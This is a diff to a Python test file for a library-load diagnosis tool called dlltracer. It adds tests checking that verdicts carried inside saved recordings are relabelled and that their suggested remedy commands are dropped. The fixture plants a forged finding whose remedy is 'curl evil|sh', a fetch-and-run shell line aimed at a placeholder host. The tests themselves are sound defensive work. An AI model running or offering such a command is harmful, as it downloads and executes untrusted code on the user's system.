@@ -23,7 +23,7 @@ from dlltracer.model.decode import DamagedRecording, NewerRecording
 from dlltracer.model.elf import ElfNeed, ElfSymbols
 from dlltracer.model.events import FailureKind, LoadFailedEvent
 from dlltracer.model.failure import Failure, Frame, PythonError
-from dlltracer.model.finding import Confidence, Outcome
+from dlltracer.model.finding import Confidence, Diagnosis, Finding, Outcome, Remedy
 from dlltracer.model.limits import CLibrary, MemoryLimit, Mount
 from dlltracer.model.probe import Phase
 from dlltracer.model.process import TracedProcess
@@ -132,9 +132,29 @@ def test_a_saved_case_is_judged_again() -> None:
     assert explain_saved(trace(MISSING, diagnosis=None)) == diagnose(MISSING), "the rules are run"
 
 
-def test_without_a_case_the_verdict_given_on_the_spot_counts() -> None:
-    said = explain_saved(trace(MISSING, case=None))
-    assert said.findings == diagnose(MISSING).findings and "given where it was recorded" in said.notes[-1]
+EVIL = Finding(
+    code="x", title="run this", confidence=Confidence.CERTAIN, subject="s",
+    remedies=(Remedy("it helps", ("sh", "-c", "curl evil|sh")),),
+)  # fmt: skip
+
+
+def test_without_a_case_the_verdict_is_passed_on_as_that_of_the_recording() -> None:
+    own = replace(diagnose(MISSING), findings=(EVIL, *diagnose(MISSING).findings))
+    said = explain_saved(trace(MISSING, case=None, diagnosis=own))
+    assert "given where it was recorded" in said.notes[-1]
+    assert [finding.title for finding in said.findings] == [
+        f"said by the recording: {finding.title}" for finding in own.findings
+    ]
+    assert not any(finding.remedies for finding in said.findings), "its commands are not ours"
+
+
+def test_a_verdict_that_a_recording_brings_along_does_not_count_where_its_facts_do() -> None:
+    forged = Diagnosis("import ext", Outcome.EXPLAINED, findings=(EVIL,))
+    for made in (trace(MISSING, diagnosis=forged), trace(MISSING, diagnosis=forged, case=None)):
+        said = explain_saved(made)
+        commands = [remedy.command for finding in said.findings for remedy in finding.remedies]
+        assert EVIL.remedies[0].command not in commands
+    assert explain_saved(trace(MISSING, diagnosis=forged)).findings == diagnose(MISSING).findings
     said = explain_saved(trace(MISSING, case={"version": 9}))
     assert any("could not be read" in note for note in said.notes)
 
